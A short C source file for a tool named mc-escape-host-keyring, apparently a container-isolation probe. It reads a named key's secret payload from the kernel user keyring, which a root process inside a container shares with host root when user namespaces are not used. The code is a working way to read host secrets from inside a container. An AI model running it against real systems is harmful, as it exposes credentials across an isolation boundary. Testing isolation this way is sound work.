/*
 * mc-escape-host-keyring DESCRIPTION: find a "user" key called DESCRIPTION in
 * the keyring of our user (@u) and print its payload.
 *
 * Kernel keyrings are not namespaced, except by user namespace: the user
 * keyring of uid 0 is the same keyring for every process that is uid 0 of the
 * host's user namespace, in a container or not.  busybox has no keyctl, so this
 * makes the two keyctl(2) calls itself and prints what the kernel answered.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <linux/keyctl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 2) {
        fprintf(stderr, "usage: mc-escape-host-keyring DESCRIPTION\n");
        return 2;
    }
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", argv[1], 0);
    if (key < 0) {
        printf("keyctl(KEYCTL_SEARCH, @u, \"user\", \"%s\"): %s\n", argv[1], strerror(errno));
        return 1;
    }
    printf("keyctl(KEYCTL_SEARCH, @u, \"user\", \"%s\"): key %ld\n", argv[1], key);
    char payload[4096];
    long n = syscall(SYS_keyctl, KEYCTL_READ, key, payload, sizeof payload - 1);
    if (n < 0) {
        printf("keyctl(KEYCTL_READ, %ld): %s\n", key, strerror(errno));
        return 1;
    }
    payload[n < (long)sizeof payload - 1 ? n : (long)sizeof payload - 1] = '\0';
    printf("payload: %s\n", payload);
    return 0;
}
